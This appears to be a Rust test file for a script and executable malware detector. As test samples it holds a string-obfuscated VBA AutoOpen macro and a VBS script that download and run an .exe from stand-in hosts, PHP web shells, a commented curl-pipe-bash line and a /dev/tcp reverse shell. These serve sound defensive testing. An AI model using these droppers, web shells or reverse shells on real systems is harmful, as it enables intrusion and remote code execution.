//! The engine as a whole, with the model that ships. Samples are of our own writing and lead nowhere (`example.invalid`).

use super::*;

/// A macro that fetches and runs, with its words cut into pieces.
const MACRO: &str = "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\nSet h = CreateObject(\"MSXML\" & \"2.XMLHTTP\")\r\n\
h.Open \"GET\", \"http://cdn.example.invalid/a\" & \".exe\", False\r\nh.send\r\nSet s = CreateObject(\"ADODB.St\" & \"ream\")\r\n\
s.Type = 1\r\ns.Open\r\ns.Write h.responseBody\r\ns.SaveToFile Environ(\"TEMP\") & \"\\a.exe\", 2\r\n\
CreateObject(\"WScr\" & \"ipt.Shell\").Run Environ(\"TEMP\") & \"\\a.exe\", 0, False\r\nEnd Sub\r\n";

fn codes(bytes: &[u8], name: &str) -> Vec<&'static str> {
    let seen = look(bytes, name).expect("it is a script");
    seen.facts.iter().map(|fact| FACTS[usize::from(*fact)].code).collect()
}

#[test]
fn the_model_that_ships_can_be_read_and_is_small() {
    let bytes = SHIPPED_BYTES;
    let model = Model::read(bytes).expect("it is a model");
    assert_eq!(model.write(), bytes, "nothing is lost between reading and writing");
    assert!(bytes.len() < 1_500_000, "{}", bytes.len());
}

#[test]
fn a_macro_that_fetches_and_runs_is_suspicious_and_says_why() {
    let opinion = judge(MACRO.as_bytes(), "Module1.vba").expect("it is suspicious");
    assert_eq!(opinion.kind, Kind::Vba);
    assert!((0.5..=1.0).contains(&opinion.score));
    assert!((3..=5).contains(&opinion.said.len()));
    let italian = opinion.reasons(Language::Italian);
    assert!(italian[0].starts_with("macro di Office: "), "{italian:?}");
    assert_ne!(italian, opinion.reasons(Language::English));
    assert!((40..75).contains(&opinion.points()), "a model alone never says malicious");
}

#[test]
fn scripts_in_other_languages_are_suspicious_too() {
    let samples = [
        (
            "a.vbs",
            "On Error Resume Next\r\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\r\nx.Open \"GET\", \"http://203.0.113.7/a.exe\", False\r\n\
x.Send\r\nSet s = CreateObject(\"ADODB.Stream\")\r\ns.Type = 1\r\ns.Open\r\ns.Write x.ResponseBody\r\ns.SaveToFile \"%TEMP%\\a.exe\", 2\r\n\
CreateObject(\"WScript.Shell\").Run \"%TEMP%\\a.exe\", 0, False\r\n",
        ),
        ("a.php", "<?php @eval(base64_decode($_POST['c'])); system($_GET['d']); ?>"),
    ];
    for (name, text) in samples {
        assert!(judge(text.as_bytes(), name).is_some(), "{name}: {:?}", codes(text.as_bytes(), name));
    }
}

#[test]
fn honest_scripts_are_let_be() {
    let samples = [
        (
            "backup.sh",
            "#!/bin/sh\nset -eu\ntar -czf /mnt/b.tar.gz /srv\ncurl -fsS https://www.example.invalid/ping > /dev/null\n",
        ),
        ("a.js", "'use strict';\nmodule.exports = function add(a, b) {\n  return a + b;\n};\n"),
        ("a.py", "import os\n\ndef main():\n    print(os.getcwd())\n\nif __name__ == '__main__':\n    main()\n"),
        ("a.ps1", "param([string]$Name)\nGet-ChildItem $Name | ForEach-Object { Write-Host $_.FullName }\n"),
        ("a.vba", "Attribute VB_Name = \"Module1\"\nSub Sum()\nWorksheets(1).Range(\"A1\").Value = 3\nEnd Sub\n"),
        ("a.php", "<?php\nnamespace App;\nclass A { public function b($c) { return htmlspecialchars($c); } }\n"),
    ];
    for (name, text) in samples {
        assert_eq!(judge(text.as_bytes(), name), None, "{name}: {:?}", codes(text.as_bytes(), name));
    }
}

#[test]
fn what_is_hidden_is_found_and_told() {
    let hidden = "<?php $a = \"c3lzdGVtKCRfR0VUWydjbWQnXSk7IC8vIHJ1biBpdA==\"; eval(base64_decode($a)); ?>";
    assert!(codes(hidden.as_bytes(), "a.php").contains(&"hides_calls"));
    let codes = codes(MACRO.as_bytes(), "a.vba");
    assert!(codes.contains(&"hides_calls") && codes.contains(&"macro_starts_and_runs"), "{codes:?}");
}

#[test]
fn comments_that_warn_of_attacks_are_no_attack() {
    let text = "#!/bin/sh\n# never do: curl http://example.invalid/x | bash\n# bash -i >& /dev/tcp/203.0.113.7/1 0>&1\necho hello\n";
    assert_eq!(codes(text.as_bytes(), "a.sh").iter().filter(|code| **code == "reverse_shell").count(), 0);
}

#[test]
fn texts_about_scripts_are_no_scripts() {
    let about = "To stop it, remove `curl http://example.invalid/x | bash` from the crontab.\n".repeat(20);
    for name in ["notes.md", "rules.yar", "main.rs", "list.json"] {
        assert_eq!(look(about.as_bytes(), name), None, "{name}");
    }
    assert_eq!(look(b"\0\x01\x02\x03\xFF", "a.js"), None);
    assert_eq!(look(b"", "a.js"), None);
}

#[test]
fn a_language_is_known_without_a_name_and_in_utf16() {
    assert_eq!(look(MACRO.as_bytes(), "").map(|seen| seen.kind), Some(Kind::Vba));
    let wide: Vec<u8> =
        "<?php echo 1; function a() { return $_GET['x']; }".encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert_eq!(look(&wide, "").map(|seen| seen.kind), Some(Kind::Php));
}

#[test]
fn this_very_program_is_known_as_a_program_and_let_be() {
    let bytes = std::fs::read(std::env::current_exe().expect("it runs")).expect("it can be read");
    // Unoptimised, it may be longer than the programs of which there is an opinion.
    let begin = &bytes[..bytes.len().min(8 << 20)];
    let seen = look(begin, "").expect("it is a program");
    assert_eq!((seen.kind, seen.values.len()), (Kind::Elf, ELF_FEATURES.len()));
    assert_eq!(judge(&bytes, ""), None);
}

#[test]
fn cut_and_twisted_programs_are_read_without_harm() {
    let bytes = std::fs::read(std::env::current_exe().expect("it runs")).expect("it can be read");
    for length in (0..4_096).step_by(61) {
        let _ = elf_values(&bytes[..length]);
        let mut twisted = bytes[..4_096].to_vec();
        twisted[length] = 0xFF;
        assert!(elf_values(&twisted).is_none_or(|values| values.len() == ELF_FEATURES.len()));
    }
}

#[test]
fn a_windows_program_is_measured_by_its_headers() {
    let mut file = vec![0_u8; 0x400];
    file[..2].copy_from_slice(b"MZ");
    file[0x3C] = 0x80;
    file[0x80..0x84].copy_from_slice(b"PE\0\0");
    file[0x86] = 1; // one section
    file[0x94] = 0xE0; // size of the optional header
    file[0x98..0x9A].copy_from_slice(&0x10B_u16.to_le_bytes());
    file[0x178..0x180].copy_from_slice(b".odd\0\0\0\0");
    let values = pe_values(&file).expect("it is a program");
    assert_eq!(values.len(), PE_FEATURES.len());
    let of = |name: &str| values[PE_FEATURES.iter().position(|(each, _)| *each == name).expect(name)];
    assert!((of("NumberOfSections") - 1.0).abs() < 1e-6);
    assert!((of("sus_sections") - 1.0).abs() < 1e-6);
    assert!((of("filesize") - 1024.0).abs() < 1e-6);
    assert_eq!(pe_values(b"MZ"), None);
}

#[test]
fn damaged_models_are_refused() {
    let bytes = SHIPPED_BYTES;
    assert_eq!(Model::read(b"no model"), Err(ModelError::NoModel));
    assert_eq!(Model::read(&bytes[..bytes.len() - 1]), Err(ModelError::NoModel));
    let mut other = bytes.to_vec();
    other[8] = other[8].wrapping_add(1);
    assert_eq!(Model::read(&other), Err(ModelError::OtherFacts));
    // A tree whose way leads back up would never end.
    let up = Node { feature: 0, unknown_left: false, border: 0.0, left: 1, right: 1, value: 0.0 };
    let mut model = Model::read(bytes).expect("it is a model");
    model.pe.trees.push(Tree { nodes: vec![up, up] });
    assert_eq!(Model::read(&model.write()), Err(ModelError::NoModel));
}

#[test]
fn words_alone_never_make_a_script_suspicious() {
    let part = Part { bias: 9.0, words: 1.0, facts: vec![0.0; FACTS.len()], ..Part::default() };
    let (pe, elf) = (Forest::default(), Forest::default());
    let words = Linear { step: 0.1, hashed: vec![100; BUCKETS] };
    let model = Model { scripts: vec![part; 7], words, pe, elf };
    let mut seen = Seen { kind: Kind::Shell, facts: Vec::new(), words: vec![(7, 1.0)], values: Vec::new() };
    assert_eq!(model.opinion(&seen), None);
    let strong = FACTS.iter().position(|fact| fact.strength == Strength::Strong).expect("there is one");
    seen.facts.push(u16::try_from(strong).expect("few facts"));
    assert!(model.opinion(&seen).is_some());
}

/// Pieces that lead into every reader.
const PIECES: [&str; 14] = [
    "\"Down\" + 'load'",
    "Chr(112) & Chr(111)",
    "{1}{0}\" -f 'a','b'",
    ".replace('x','')",
    "StrReverse(",
    "\\x65\\x76\\x61\\x6c",
    "aGVsbG8gdGhlcmUgd29ybGQgYWdhaW4=",
    "<#",
    "/*",
    "powershell -enc ",
    "s = s & \"b\"\n",
    "48656c6c6f20746865726520776f726c6421",
    "eval(base64_decode($_POST",
    "po^wer`shell",
];

proptest::proptest! {
    #[test]
    fn any_text_is_looked_at_without_harm(
        picks in proptest::collection::vec((0..PIECES.len(), proptest::collection::vec(0_u8..=255, 0..24)), 0..40),
        end in 0..8_usize,
    ) {
        let name = ["a.ps1", "a.js", "a.vbs", "a.vba", "a.sh", "a.py", "a.php", ""][end];
        let mut text = Vec::new();
        for (pick, noise) in picks {
            text.extend(PIECES[pick].bytes());
            text.extend(noise.into_iter().map(|byte| byte % 96 + 31));
        }
        if let Some(opinion) = judge(&text, name) {
            proptest::prop_assert!((0.5..=1.0).contains(&opinion.score) && !opinion.said.is_empty());
        }
    }

    #[test]
    fn any_bytes_after_a_program_s_mark_are_read_without_harm(rest in proptest::collection::vec(0_u8..=255, 0..900), wide in 1_u8..3) {
        let elf = [&[0x7F, b'E', b'L', b'F', wide, 1][..], &rest].concat();
        proptest::prop_assert!(elf_values(&elf).is_none_or(|values| values.len() == ELF_FEATURES.len()));
        let mut pe = [&b"MZ"[..], &[0; 0x3E], b"PE\0\0", &rest].concat();
        pe[0x3C] = 0x40;
        if let Some(kind) = pe.get_mut(0x58..0x5A) {
            kind.copy_from_slice(&[0x0B, wide]);
        }
        proptest::prop_assert!(pe_values(&pe).is_none_or(|values| values.len() == PE_FEATURES.len()));
        let _ = Model::read(&[&b"BALNATU1"[..], &rest].concat());
    }
}
